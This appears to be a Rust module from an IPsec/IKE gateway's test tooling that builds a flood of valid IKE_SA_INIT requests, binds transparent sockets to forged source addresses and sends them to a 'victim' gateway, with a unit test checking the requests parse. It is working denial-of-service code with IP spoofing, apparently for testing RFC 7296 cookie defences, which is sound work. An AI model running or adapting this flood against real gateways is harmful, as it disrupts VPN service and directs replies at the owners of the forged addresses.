//! A flood of IKE_SA_INIT requests that nobody means to go on with, with forged source addresses (RFC 7296 §2.6).

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::AsFd;
use std::time::Duration;

use gateway::{Command, Effect, Gateway, Time};
use peer::{Connection, GatewayConfig};
use socket2::{Domain, Type};
use tokio::time::{MissedTickBehavior, interval};

use crate::{Sockets, sys};

/// IKE's port, on both sides.
const PORT: u16 = 500;

/// A flood.
#[derive(Debug, Clone)]
pub struct Flood {
    /// The victim's connection; what is sent is acceptable to it.
    pub victim: Connection,
    /// Forged sources, used in turn.
    pub sources: Vec<IpAddr>,
    /// Requests.
    pub count: u32,
    /// Between requests.
    pub interval: Duration,
}

/// Sends the requests, each with a key of its own, and returns their initiator's SPIs. Answers go to whom the sources belong to.
pub async fn flood(sockets: &dyn Sockets, spec: &Flood) -> io::Result<Vec<u64>> {
    let mut spis = Vec::new();
    let mut ticks = interval(spec.interval.max(Duration::from_micros(1)));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    for (n, source) in (0..spec.count).zip(spec.sources.iter().cycle()) {
        let request = first_request(&spec.victim, *source, n).map_err(io::Error::other)?;
        ticks.tick().await;
        send(sockets, *source, spec.victim.local, &request)
            .map_err(|e| io::Error::new(e.kind(), format!("request {} as from {source}: {e}", n + 1)))?;
        spis.extend(request.first_chunk::<8>().map(|spi| u64::from_be_bytes(*spi)));
    }
    Ok(spis)
}

/// The `n`-th IKE_SA_INIT request that would begin the victim's connection from an address.
fn first_request(victim: &Connection, source: IpAddr, n: u32) -> Result<Vec<u8>, String> {
    let own = Connection { local: source, remote: Some(victim.local), ..victim.clone() };
    let command = Command::Initiate(own.name.clone());
    let mut seed = *b"a flood of requests, the n-th:  ";
    if let Some(end) = seed.last_chunk_mut() {
        *end = n.to_le_bytes();
    }
    let mut sender = Gateway::new(GatewayConfig { connections: vec![own], ..GatewayConfig::default() }, seed, 0, &[])?;
    sender.command(Time::ZERO, command)?;
    while let Some(effect) = sender.poll_effect() {
        match effect {
            Effect::Datagram { data, .. } => return Ok(data),
            Effect::Failed { reason, .. } => return Err(reason),
            _ => {}
        }
    }
    Err("nothing was to be sent".to_owned())
}

fn send(sockets: &dyn Sockets, source: IpAddr, to: IpAddr, request: &[u8]) -> io::Result<()> {
    let v6 = source.is_ipv6();
    let socket = sockets.open(if v6 { Domain::IPV6 } else { Domain::IPV4 }, Type::DGRAM, None)?;
    socket.set_nonblocking(true)?;
    // Lets the socket have an address that is not the node's.
    let (level, option) = if v6 { (libc::IPPROTO_IPV6, libc::IPV6_TRANSPARENT) } else { (libc::IPPROTO_IP, libc::IP_TRANSPARENT) };
    sys::set_option(socket.as_fd(), level, option, 1)?;
    socket.bind(&SocketAddr::new(source, PORT).into())?;
    socket.send_to(request, &SocketAddr::new(to, PORT).into()).map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn victim() -> Connection {
        Connection {
            ike_proposals: vec!["aes128-sha256-ecp256".into()],
            esp_proposals: vec!["aes128-sha256".into()],
            local_ts: vec!["10.2.0.0/16".parse().unwrap()],
            remote_ts: vec!["10.1.0.0/16".parse().unwrap()],
            ..Connection::plain("east", "west", "198.51.100.2".parse().unwrap(), Some("192.0.2.2".parse().unwrap()))
        }
    }

    #[test]
    fn each_request_is_another_one_and_acceptable() {
        let source: IpAddr = "192.0.2.2".parse().unwrap();
        let requests: Vec<Vec<u8>> = (0..2).map(|n| first_request(&victim(), source, n).unwrap()).collect();
        for request in &requests {
            let message = wire::ike::parse(request);
            assert!(message.malformed.is_none() && message.spi_i != 0 && message.spi_r == 0, "{message:?}");
            assert_eq!((message.exchange, message.message_id, message.is_response()), (34, 0, false));
        }
        assert_ne!(requests[0][..8], requests[1][..8]);
    }
}
